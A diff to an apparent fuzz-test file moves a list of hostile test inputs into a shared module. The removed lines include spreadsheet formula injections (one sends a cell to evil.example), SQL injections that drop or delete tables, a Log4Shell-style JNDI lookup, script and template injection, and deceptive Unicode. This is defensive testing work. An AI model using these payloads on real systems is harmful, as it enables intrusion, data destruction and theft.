@@ -23,6 +23,7 @@ from hypothesis import HealthCheck, settings
 from hypothesis import strategies as st
 
 from lib import canonical
+from simulator.hostile import INJECTIONS  # noqa: F401 - shared by the suites
 
 TALLY = Counter(tried=0, rejected=0, accepted=0, crashes=0)
 FUZZ = settings(
@@ -44,29 +45,6 @@ VALID_EVENT = {
     "data": {"external_id": "SUP-1", "name": "Acme"},
 }
 VALID_BODY = json.dumps(VALID_EVENT).encode()
-
-INJECTIONS = [
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "+SUM(1)",
-    "@x",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3",
-    "\t=1+1",
-    "'; DROP TABLE res_partner; --",
-    "Robert'); DELETE FROM fih_message WHERE ('1'='1",
-    "1 OR 1=1",
-    '" OR ""="',
-    "%(name)s %s {0} ${jndi:ldap://evil.example/a}",
-    "<script>alert(1)</script>",
-    "{{7*7}}",
-    "\u202eevil.exe\u202cfdp.txt",  # right-to-left override
-    "Acme\u200b\u200c\u200d\ufeffLtd",  # zero-width characters
-    "\u05e9\u05dc\u05d5\u05dd Ltd",  # Hebrew
-    "\U0001f4a9 Ltd",
-    "Ａｃｍｅ",  # full-width
-    "Ltd\u0301\u0301\u0301",  # combining marks
-]
 
 
 def summary():
